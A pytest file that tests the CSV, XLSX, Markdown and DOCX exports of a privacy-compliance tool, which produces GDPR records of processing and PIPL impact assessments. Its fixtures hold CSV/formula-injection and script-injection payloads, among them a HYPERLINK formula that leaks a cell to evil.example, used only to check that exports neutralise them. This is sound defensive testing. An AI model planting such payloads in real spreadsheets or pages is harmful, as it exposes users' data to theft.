"""``disclosurelint export``: the RoPA and the PIPIA, read back as a user's programs read them."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from disclosurelint.cli import main
from tests.legal.common import ROOT, entry

DATE = "2026-11-29"
HOSTILE = {
    "purpose": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "item": "+1 555 0100",
    "name": "@SUM(A1:A9)",
    "product": "-2+3 <script>alert(1)</script> | `tick`",
}


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out, err)
    return code, out.getvalue(), err.getvalue()


def hostile(folder: Path) -> Path:
    """A declaration whose every free text is something a spreadsheet or a page would run."""
    text = (
        "disclosure: 1\nid: hostile\nrecipient:\n"
        f"  name: '{HOSTILE['name']}'\n  relationship: third_party\n"
        f"product: '{HOSTILE['product']}'\n"
        f"data:\n  - item: '{HOSTILE['item']}'\n  - item: \"bell\\a and tab\\tinside\"\n"
        f"purpose: '{HOSTILE['purpose']}'\nscenario: You use it.\n"
        "sharing_modes: [backend_api]\nprivacy_policy:\n  url: https://example.com/privacy\n"
    )
    (folder / "hostile.yaml").write_text(text, encoding="utf-8")
    return folder


def sensitive_abroad(folder: Path) -> Path:
    extra = (
        "cross_border:\n  destinations: [US]\n  mechanism: cac_standard_contract\n"
        "retention: 30 days after the contract ends.\n"
    )
    text = entry(
        "faces",
        name="Face Match Inc.",
        relationship="entrusted_processor",
        country="US",
        items=("face image", "nickname"),
        extra=extra,
    )
    (folder / "faces.yaml").write_text(text, encoding="utf-8")
    device = entry("calendar", name="The phone's calendar", relationship="device_service")
    (folder / "calendar.yaml").write_text(device.replace("url: https", "url: https"), "utf-8")
    return folder


def table_of(content: bytes) -> list[list[str]]:
    """The CSV as Excel's import reads it: UTF-8 after the byte-order mark."""
    assert content.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble Chinese"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def records(rows: list[list[str]]) -> list[dict[str, str]]:
    start = next(i for i, row in enumerate(rows) if row and row[0].startswith("Controller"))
    head = rows[start]
    return [dict(zip(head, row, strict=True)) for row in rows[start + 1 :]]


def test_the_seed_as_a_ropa_csv_has_one_row_per_recipient(tmp_path: Path) -> None:
    target = tmp_path / "ropa.csv"
    code, out, err = run(
        "export", "-f", "ropa-csv", str(ROOT / "declarations"), "-o", str(target), "--date", DATE
    )
    assert (code, err) == (0, "")
    assert out == f"Wrote {target}: 5 rows.\n"
    rows = table_of(target.read_bytes())
    about = {row[0]: row[1] for row in rows if len(row) == 2}
    assert about["Date"] == DATE
    assert about["Rule set"].startswith("rules-")
    assert len(about["Content hash (SHA-256)"]) == 64
    unfillable = about["Columns the declarations cannot fill (left empty)"]
    assert "Categories of data subjects" in unfillable
    assert "Controller (name and contact details)" in unfillable
    found = records(rows)
    by_recipient = {r["Recipient (GDPR Art. 30(1)(d))"]: r for r in found}
    assert len(found) == 5
    camcard = by_recipient["Shanghai Hehe Information Technology Co., Ltd."]
    assert camcard["Purposes of the processing (GDPR Art. 30(1)(b))"] == (
        "Provide the cloud business card service."
    )
    assert camcard["Categories of data subjects (GDPR Art. 30(1)(c))"] == ""
    assert camcard["Category of recipient (GDPR Art. 30(1)(d))"] == "Third party"
    assert "Phone number" in camcard["Categories of personal data (GDPR Art. 30(1)(c))"]
    assert camcard["Transfers to third countries (GDPR Art. 30(1)(e))"] == "Not stated"


def test_a_transfer_abroad_names_the_country_and_the_safeguard(tmp_path: Path) -> None:
    folder = sensitive_abroad(tmp_path)
    code, out, _ = run("export", "-f", "ropa-csv", str(folder), "--date", DATE, "--isolated")
    assert code == 0
    row = next(
        r
        for r in records(table_of(out.encode("utf-8")))
        if r["Declaration"].startswith(str(folder / "faces.yaml"))
        or "faces.yaml" in r["Declaration"]
    )
    assert row["Transfers to third countries (GDPR Art. 30(1)(e))"] == "US"
    assert (
        "CAC standard contract"
        in row["Safeguards for the transfer (GDPR Arts. 30(1)(e), 46, 49(1))"]
    )
    assert row["Time limits for erasure (GDPR Art. 30(1)(f))"] == "30 days after the contract ends."
    assert "face image" in row["Sensitive data (GDPR Art. 9(1); PIPL Art. 28)"]


def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path: Path) -> None:
    code, out, _ = run("export", "-f", "ropa-csv", str(hostile(tmp_path)), "--date", DATE)
    assert code == 0
    row = records(table_of(out.encode("utf-8")))[0]
    cells = list(row.values())
    assert "'" + HOSTILE["name"] in cells
    assert "'" + HOSTILE["purpose"] in cells
    # No cell starts with a character that makes it a formula.
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "ropa.xlsx"
    code, _, err = run(
        "export", "-f", "ropa-xlsx", str(hostile(tmp_path)), "-o", str(target), "--date", DATE
    )
    assert (code, err) == (0, "")
    book = load_workbook(target)
    sheet = book["Record"]
    head = [c.value for c in sheet[1]]
    values = {head[i]: cell for i, cell in enumerate(sheet[2])}
    purpose = values["Purposes of the processing (GDPR Art. 30(1)(b))"]
    assert purpose.value == HOSTILE["purpose"]  # the published words, kept
    assert purpose.data_type == "s"
    assert purpose.quotePrefix
    assert values["Recipient (GDPR Art. 30(1)(d))"].value == HOSTILE["name"]
    items = values["Personal data, as disclosed (GDPR Art. 30(1)(c))"].value
    assert isinstance(items, str)
    assert "bell\\x07 and tab inside" in items
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    about = {row[0].value: row[1].value for row in book["About"].iter_rows(min_row=2)}
    assert about["Date"] == DATE


def test_exports_are_reproducible_for_a_date(tmp_path: Path) -> None:
    (tmp_path / "d").mkdir()
    folder = sensitive_abroad(tmp_path / "d")
    for fmt, name in (("ropa-xlsx", "r.xlsx"), ("pipia-docx", "p.docx"), ("ropa-csv", "r.csv")):
        first, second = tmp_path / f"1-{name}", tmp_path / f"2-{name}"
        for target in (first, second):
            code, _, err = run(
                "export", "-f", fmt, str(folder), "-o", str(target), "--date", DATE, "--isolated"
            )
            assert (code, err) == (0, "")
        assert first.read_bytes() == second.read_bytes(), fmt


def test_the_pipia_lists_who_needs_an_assessment_and_why(tmp_path: Path) -> None:
    folder = sensitive_abroad(tmp_path)
    code, out, _ = run("export", "-f", "pipia-md", str(folder), "--date", DATE, "--isolated")
    assert code == 0
    assert "Processes sensitive personal information (PIPL Art. 55(1)): face image" in out
    assert "Entrusts the processing of personal information (PIPL Art. 55(3))" in out
    assert "outside the home country (PIPL Art. 55(4)): US" in out
    assert "Art. 56(1): Are the purpose and the method of processing lawful" in out
    assert "Why face image is necessary is not stated" in out
    assert "Name the entrustment agreement" in out
    exempt = out.split("## Entries that need no assessment", 1)[1]
    assert "The phone's calendar" in exempt
    assert "Face Match Inc." not in exempt
    assert "at least three years (PIPL Art. 56, second paragraph)" in out


def test_the_pipia_carries_the_waivers_and_their_reasons(tmp_path: Path) -> None:
    folder = sensitive_abroad(tmp_path)
    faces = folder / "faces.yaml"
    faces.write_text(
        faces.read_text("utf-8").replace(
            "  - item: face image\n",
            '  # disclosurelint: allow DL301 reason="Face match is the service; reviewed" '
            'approved-by="Wang Fang, counsel" expires=2027-06-30\n  - item: face image\n',
        ),
        "utf-8",
    )
    code, out, _ = run("export", "-f", "pipia-md", str(folder), "--date", DATE, "--isolated")
    assert code == 0
    waivers = out.split("### Waivers and their reasons", 1)[1].split("###", 1)[0]
    assert "Face match is the service; reviewed" in waivers
    assert "Wang Fang, counsel" in waivers


def test_pipia_markdown_escapes_what_a_page_would_run(tmp_path: Path) -> None:
    code, out, _ = run("export", "-f", "pipia-md", str(hostile(tmp_path)), "--date", DATE)
    assert code == 0
    assert "<script>" not in out
    assert "\\<script\\>" in out


def test_pipia_docx_reads_back_in_a_word_processor_library(tmp_path: Path) -> None:
    from docx import Document

    target = tmp_path / "pipia.docx"
    folder = hostile(sensitive_abroad(tmp_path))
    code, out, err = run(
        "export", "-f", "pipia-docx", str(folder), "-o", str(target), "--date", DATE, "--isolated"
    )
    assert (code, err) == (0, "")
    assert out == f"Wrote {target}: 2 assessments.\n"
    document = Document(str(target))
    text = "\n".join(p.text for p in document.paragraphs)
    cells = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "Face Match Inc." in text
    assert "Art. 56(3): Are the protective measures lawful" in text
    assert HOSTILE["purpose"] in cells
    assert "bell\\x07" in text
    assert document.core_properties.created is not None
    assert document.core_properties.created.date().isoformat() == DATE


@pytest.mark.parametrize("fmt", ["ropa-xlsx", "pipia-docx"])
def test_a_binary_export_needs_a_file(fmt: str) -> None:
    code, out, err = run("export", "-f", fmt, str(ROOT / "declarations"))
    assert code == 2
    assert out == ""
    assert (
        err == f"disclosurelint: error: --format {fmt} writes a binary file: name it with -o FILE\n"
    )


def test_an_unwritable_output_is_one_line_and_exit_2(tmp_path: Path) -> None:
    target = tmp_path / "missing" / "ropa.csv"
    code, _, err = run("export", "-f", "ropa-csv", str(ROOT / "declarations"), "-o", str(target))
    assert code == 2
    assert err.count("\n") == 1
    assert f"{target}: cannot write" in err


def test_the_export_names_its_commit(tmp_path: Path) -> None:
    import subprocess

    repo = tmp_path / "repo"
    (repo / "declarations").mkdir(parents=True)
    sensitive_abroad(repo / "declarations")
    for args in (
        ("init", "-q"),
        ("add", "."),
        ("-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "x"),
    ):
        subprocess.run(["git", *args], cwd=repo, check=True)
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=repo, check=True, capture_output=True, text=True
    ).stdout.strip()
    code, out, _ = run(
        "export", "-f", "pipia-md", str(repo / "declarations"), "--date", DATE, "--isolated"
    )
    assert code == 0
    assert f"| **Commit** | {head} |" in out
    assert "| **Uncommitted changes** | None: the exported files are those of the commit |" in out
